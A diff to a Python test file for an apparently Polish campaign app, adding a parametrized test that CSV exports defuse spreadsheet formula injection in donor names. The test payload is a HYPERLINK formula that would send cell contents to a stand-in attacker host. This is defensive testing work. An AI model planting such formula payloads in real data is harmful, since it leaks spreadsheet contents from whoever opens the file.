@@ -7,9 +7,9 @@ from pathlib import Path
 import pytest
 from pypdf import PdfReader
 
+from campaign.core.clock import today
 from campaign.letters.models import LetterStatus
 from campaign.parcels.services import receive_parcel
-from campaign.timeutil import today
 from tests.conftest import login
 from tests.parcels.parcel_helpers import events
 
@@ -80,6 +80,20 @@ def test_a_name_that_looks_like_a_formula_is_defused(client, coordinator, data):
     rows = read_csv(client.get("/koordynacja/eksport/claims.csv").data)
     [row] = [r for r in rows if r["kod"] == data["received"].display_code]
     assert row["darczyńca"] == "'=HYPERLINK()"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_character_a_spreadsheet_starts_a_formula_with_is_defused(
+    client, coordinator, make_user, make_letter, start
+):
+    name = f'{start}HYPERLINK("http://zlo.example/?"&A1)'
+    letter = make_letter(LetterStatus.CLAIMED, donor=make_user(display_name=name))
+    login(client, coordinator)
+
+    rows = read_csv(client.get("/koordynacja/eksport/claims.csv").data)
+
+    [row] = [r for r in rows if r["kod"] == letter.display_code]
+    assert row["darczyńca"] == "'" + name
 
 
 def test_parcels_csv_per_centre(client, coordinator, data):
